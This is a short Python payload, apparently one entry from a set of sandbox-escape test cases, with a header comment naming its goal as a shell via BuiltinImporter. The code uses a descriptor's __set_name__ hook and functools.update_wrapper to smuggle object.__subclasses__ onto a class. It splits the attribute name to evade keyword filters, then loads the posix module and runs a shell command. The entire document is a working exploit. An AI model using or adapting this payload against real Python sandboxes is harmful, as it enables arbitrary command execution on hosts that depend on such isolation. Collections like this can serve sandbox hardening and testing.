# HARM: shell via BuiltinImporter | TRICK: descriptor in Base body; its __set_name__(owner) runs functools.update_wrapper(owner, object, ...) at class creation
import functools
class Hook:
    def __set_name__(self, owner, name):
        functools.update_wrapper(owner, object, assigned=('__sub' + 'classes__',), updated=())
class Base:
    hook = Hook()
class A(Base): pass
for k in Base.__subclasses__():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
